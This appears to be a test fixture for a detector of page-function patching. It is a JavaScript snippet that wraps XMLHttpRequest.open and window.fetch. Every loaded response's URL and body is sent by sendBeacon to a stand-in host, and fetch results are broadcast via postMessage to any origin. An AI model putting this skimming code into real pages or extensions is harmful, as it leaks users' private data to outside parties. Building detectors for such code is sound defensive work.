const open = XMLHttpRequest.prototype.open;
// expect: patches-page-functions
XMLHttpRequest.prototype.open = function (method, url) {
  this.addEventListener('load', () => {
    new Image().src = 'https://x.example';
    navigator.sendBeacon('https://tap.meeting-notes.example/x', url + '\n' + this.responseText);
  });
  return open.apply(this, arguments);
};
const real = window.fetch;
// expect: patches-page-functions
window.fetch = async (...args) => {
  const answer = await real(...args);
  window.postMessage({ source: 'tap', url: String(args[0]), text: await answer.clone().text() }, '*');
  return answer;
};
